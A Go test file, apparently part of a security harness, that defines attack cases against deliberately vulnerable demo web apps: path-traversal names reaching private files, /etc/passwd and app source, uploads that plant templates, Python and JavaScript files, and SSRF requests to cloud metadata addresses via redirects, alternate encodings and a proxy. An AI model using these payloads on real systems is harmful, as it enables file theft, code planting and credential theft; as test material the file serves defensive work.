package canon

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
)

// shopFiles are names that lead out of the shop's folder of manuals, to a file that nothing
// but its place makes private.
func shopFiles() []Attack {
	file := func(path, name string) Attack {
		return leaky(path+": "+name, "any file", salaries, asking(path, "name", name))
	}
	var attacks []Attack
	for _, path := range []string{"/manual", "/manual/text"} {
		attacks = append(attacks, file(path, "../private/salaries.csv"), file(path, "./../private//salaries.csv"), file(path, "../manuals/../private/salaries.csv"))
	}
	// Only one of the two joins paths as os.path.join does, which starts anew at a slash.
	return append(attacks, file("/manual", "/proc/self/cwd/private/salaries.csv"),
		leaky("/manual: a file of the system", "any file", "root:", asking("/manual", "name", "/etc/passwd")),
		leaky("/manual/text: a file of the system", "any file", "root:", asking("/manual/text", "name", "../../../../../../../../../../etc/passwd")),
		leaky("/manual: the source", "the key of all sessions", sourceKey, asking("/manual", "name", "../app.py")))
}

// shopUploads are photos that take the place of a part of the shop.
func shopUploads() []Attack {
	planting := func(name, target, content string) Attack {
		return Attack{Name: "photo: " + name, App: "leaky", Gain: "the attacker's page, or program, is a part of the shop", Works: func(s *Scene) bool {
			answer := s.Try(s.Client(), s.Parts("/photo", []File{{Name: name, Type: "text/plain", Content: content}}))
			s.Logf("%d", answer.Status)
			return s.written(target, content)
		}}
	}
	return []Attack{
		planting("../../templates/planted.html", "templates/planted.html", "{{ 7*7 }}"),
		planting("../../planted.py", "planted.py", planted),
		planting("../owned.js", "static/owned.js", script),
	}
}

// roundabout are ways to an address inside by way of one that is allowed, or of a proxy.
func roundabout() []Attack {
	return []Attack{
		{Name: "address: by a redirect of an allowed one", App: "leaky_allowing", Gain: "what only this machine may see", Works: func(s *Scene) bool {
			return s.leaks(s.Client(), asking("/tools/preview", "url", s.redirecting(s.deeper()))(s), secret)
		}},
		{Name: "address: by two redirects of an allowed one", App: "leaky_allowing", Gain: "what only this machine may see", Works: func(s *Scene) bool {
			return s.leaks(s.Client(), asking("/tools/preview", "url", s.redirecting(s.redirecting(s.deeper())))(s), secret)
		}},
		{Name: "address: beside an allowed one", App: "leaky_allowing", Gain: "what only this machine may see", Works: func(s *Scene) bool {
			return s.leaks(s.Client(), asking("/tools/preview", "url", s.deeper())(s), secret)
		}},
		metadata("169.254.169.254"), metadata("[fd00:ec2::254]"), metadata("100.100.100.200"), metadata("0xa9.0xfe.0xa9.0xfe"),
		metadata("2852039166"), metadata("192.168.0.1"), metadata("10.0.0.7"),
	}
}

// deeper is a server beside the one that the policy allows.
func (s *Scene) deeper() string {
	s.Helper()
	listener, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		s.Fatal(err)
	}
	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, secret)
	})}}
	server.Start()
	s.Cleanup(server.Close)
	return server.URL + "/"
}

// redirecting is a page that leads on.
func (s *Scene) redirecting(to string) string {
	s.Helper()
	server := httptest.NewServer(http.RedirectHandler(to, http.StatusFound))
	s.Cleanup(server.Close)
	return server.URL + "/"
}

// metadata asks for the keys of the machine, by the proxy that this app has to use.
func metadata(host string) Attack {
	return Attack{Name: "address by a proxy: " + host, App: "leaky_proxied", Gain: "the keys of the machine", Works: func(s *Scene) bool {
		return s.leaks(s.Client(), asking("/tools/preview", "url", "http://"+host+"/latest/meta-data/")(s), ProxySays("http://"+host+"/latest/meta-data/"))
	}}
}

// Proxy is what leads out of a network that nothing leaves otherwise. It asks nobody.
func Proxy() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, ProxySays(r.URL.String()))
	})
}

// ProxySays is what the proxy answers when it is asked for that page.
func ProxySays(page string) string { return "this is " + url.QueryEscape(page) }
